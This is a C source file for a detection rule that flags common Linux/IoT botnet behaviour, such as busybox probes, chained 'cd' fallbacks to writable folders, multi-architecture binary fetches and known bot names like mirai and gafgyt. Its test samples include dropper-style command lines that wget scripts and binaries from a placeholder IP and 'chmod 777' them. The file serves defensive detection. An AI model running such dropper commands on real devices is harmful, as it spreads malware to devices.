#include "detect/command_facts.h"
#include "detect/rule.h"

#define FALLBACKS_MIN 3 /* cd /tmp || cd /var/run || cd /mnt */
#define BUILDS_MIN 2    /* bins for several processors in one line */

static const char *const words[] = {"busybox", "mirai", "gafgyt", "bashlite", "tsunami", "kaiten", "hajime", "mozi", "dvrhelper", "cd /tmp", ".mips", ".mpsl", ".arm", ".x86", ".sh4", "xorddos", NULL};
static const char *const known[] = {"mirai", "gafgyt", "bashlite", "tsunami", "kaiten", "hajime", "mozi", "dvrhelper", "xorddos", "lightaidra", "qbot", "satori", NULL};
static const char *const builds[] = {".mips", ".mpsl", ".mipsel", ".arm", ".arm4", ".arm5", ".arm6", ".arm7", ".x86", ".x86_64", ".ppc", ".sh4", ".spc", ".m68k", ".i586", ".i686", ".arc", NULL};

/* Bots ask busybox for an applet that does not exist, such as "busybox MIRAI", to see whether they are in a shell. */
static bool is_token(struct text word)
{
    if (word.count < 3 || word.count > 16)
        return false;
    for (size_t i = 0; i < word.count; i++)
        if (!(word.bytes[i] >= 'A' && word.bytes[i] <= 'Z') && !(word.bytes[i] >= '0' && word.bytes[i] <= '9'))
            return false;
    return word.bytes[0] >= 'A' && word.bytes[0] <= 'Z';
}

static size_t fallbacks_in(const struct command_line *line)
{
    static const char *const places[] = {"/tmp", "/var/run", "/mnt", "/root", "/", "/var", "/var/tmp", "/dev/shm", "/dev", "/var/home", "/home", "/bin", "/etc", NULL};
    const struct command *command = NULL;
    size_t count = 0;

    while ((command = command_find(line, "cd", command))) {
        struct text place = command->word_count > 1 ? command->words[1] : TEXT("");
        while (place.count > 1 && place.bytes[place.count - 1] == '/')
            place.count--;
        count += text_among(place, places);
    }
    return count;
}

static size_t builds_in(const struct command_line *line)
{
    size_t count = 0;

    for (size_t k = 0; builds[k]; k++) {
        bool found = false;
        for (size_t i = 0; i < line->count && !found; i++) {
            struct text source, target;
            const struct command *command = &line->commands[i];
            if (!command_downloads(command, &source, &target))
                continue;
            for (size_t w = 1; w < command->word_count && !found; w++)
                found = text_ends(command->words[w], text_of(builds[k]));
        }
        count += found;
    }
    return count;
}

static const char *wrong_with(const struct judging *judging, const struct command *command)
{
    if (text_equal(event_base_name(command->path), TEXT("busybox")) && command->word_count > 1 && is_token(command->words[1]))
        return "busybox is asked for an applet that does not exist, as bots try their ground";
    if (!command_only_mentions(command) && text_among(command->name, known))
        return "it bears the name of a known bot";
    if (command != judging->line->commands) /* the rest is about the whole line */
        return NULL;
    if (fallbacks_in(judging->line) >= FALLBACKS_MIN)
        return "one folder after the other is tried until one can be written";
    return builds_in(judging->line) >= BUILDS_MIN ? "builds of one program for several processors are fetched" : NULL;
}

static const struct rule_sample samples[] = {
    {true, "$ /bin/busybox ECCHI"},
    {true, "$ sh -c cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.7/bins.sh"},
    {true, "$ sh -c wget http://198.51.100.7/b.mips; wget http://198.51.100.7/b.arm7; chmod 777 *"},
    {false, "$ busybox wget http://updates.example.org/app.mips"},
    {false, "$ /bin/busybox ls /tmp"},
    {false, "$ sh -c 'cd /tmp && ls'"},
};

const struct rule rule_common_bots = {
    .id = "IoT_CommonBots",
    .title = "Behaviour of common Linux bots",
    .severity = "Medium",
    .tactics = "Execution, Discovery",
    .techniques = "T1059.004, T1105, T0807",
    .fires = "`busybox` asked for an applet of capitals that does not exist; three or more folders tried one after the other with `cd`; builds for "
             "several processors fetched in one line; the names of known bots.",
    .spares = "busybox's own applets; one build fetched.",
    .needs = "Processes with their command lines.",
    .tuning = "An exception for the device's own updater.",
    .remediation = rule_ask_user,
    .kinds = EVENT_BIT(EVENT_PROCESS),
    .words = words,
    .command = wrong_with,
    RULE_SAMPLES(samples),
};
